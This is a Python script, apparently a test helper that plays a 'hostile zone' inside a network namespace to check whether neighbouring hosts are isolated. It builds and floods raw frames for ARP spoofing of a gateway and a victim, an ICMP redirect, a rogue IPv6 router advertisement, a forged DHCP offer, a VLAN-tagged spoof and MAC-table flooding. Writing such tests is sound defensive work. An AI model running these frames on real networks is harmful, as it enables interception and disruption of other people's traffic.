#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""What a hostile zone sends, over and over: attack.py INTERFACE SECONDS VICTIM4 GATEWAY4 VICTIM_MAC (inside its namespace)."""
import os
import socket
import struct
import sys
import time

interface, seconds, victim4, gateway4, victim_mac = sys.argv[1:]
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sock.bind((interface, 0))
own = sock.getsockname()[4]
victim = bytes.fromhex(victim_mac.replace(":", ""))
v4, g4 = socket.inet_aton(victim4), socket.inet_aton(gateway4)
ALL = b"\xff" * 6
ALL6 = bytes.fromhex("333300000001")
LOCAL = bytes.fromhex("fe80000000000000") + bytes.fromhex("6666fffe66666666")


def ether(to, source, kind, body):
    return (to + source + struct.pack("!H", kind) + body).ljust(60, b"\0")


def total(data):
    data += b"\0" * (len(data) % 2)
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip4(source, to, protocol, body):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0, source, to)
    return head[:10] + struct.pack("!H", total(head)) + head[12:] + body


def ip6(source, to, protocol, body, hops=255):
    return struct.pack("!IHBB16s16s", 6 << 28, len(body), protocol, hops, source, to) + body


def icmp6(source, to, body):
    fake = source + to + struct.pack("!II", len(body), 58)
    return ip6(source, to, 58, body[:2] + struct.pack("!H", total(fake + body)) + body[4:])


def arp(op, source_mac, source, to_mac, to):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, op, source_mac, source, to_mac, to)


def udp(source, to, body):
    return struct.pack("!HHHH", source, to, 8 + len(body), 0) + body


EVERY = socket.inet_pton(socket.AF_INET6, "ff02::1")
prefix = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 86400, 0, socket.inet_pton(socket.AF_INET6, "2001:db8:bad::"))
advert = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0xC0, 1800, 0, 0) + prefix
claim = struct.pack("!BBHI", 136, 0, 0, 0xE0000000)
offer = (struct.pack("!BBBBIHH4s4s4s4s", 2, 1, 6, 0, 1, 0, 0x8000, b"\0" * 4, v4, g4, b"\0" * 4) + victim.ljust(16, b"\0")
         + b"\0" * 192 + b"\x63\x82\x53\x63" + b"\x35\x01\x05" + b"\x36\x04" + g4 + b"\xff")

frames = [
    ether(victim, own, 0x0806, arp(2, own, g4, victim, v4)),            # I am the gateway
    ether(ALL, own, 0x0806, arp(1, own, g4, b"\0" * 6, g4)),            # … to everybody
    ether(ALL, own, 0x0806, arp(1, own, v4, b"\0" * 6, v4)),            # I am the victim
    ether(ALL, victim, 0x0806, arp(1, victim, v4, b"\0" * 6, g4)),      # its frames come from here
    ether(victim, own, 0x0800, ip4(g4, v4, 1, b"\x05\x01" + b"\0" * 2 + v4 + ip4(v4, g4, 1, b"\0" * 8))),  # a redirect
    ether(ALL6, own, 0x86DD, icmp6(LOCAL, EVERY, advert)),              # I am a router
    ether(ALL6, own, 0x86DD, icmp6(LOCAL, EVERY, claim + LOCAL + b"\x02\x01" + own)),
    ether(victim, own, 0x0800, ip4(g4, b"\xff" * 4, 17, udp(67, 68, offer))),   # I am the DHCP server
    ether(ALL6, own, 0x86DD, ip6(LOCAL, EVERY, 17, udp(547, 546, b"\x07\0\0\1"))),
    ether(ALL, own, 0x8100, struct.pack("!HH", 1, 0x0806) + arp(2, own, g4, victim, v4)),  # behind a tag
]
end, n = time.monotonic() + float(seconds), 0
while time.monotonic() < end:
    for frame in frames:
        try:
            sock.send(frame)
        except OSError:
            time.sleep(0.001)  # the queue is full
    for _ in range(50):  # the bridge's table
        source = b"\x02" + os.urandom(5)
        try:
            sock.send(ether(ALL, source, 0x0800, ip4(b"\x0a\x4d\x42" + source[:1], v4, 17, udp(1, 1, b""))))
        except OSError:
            time.sleep(0.001)
    n += len(frames) + 50
print(n)
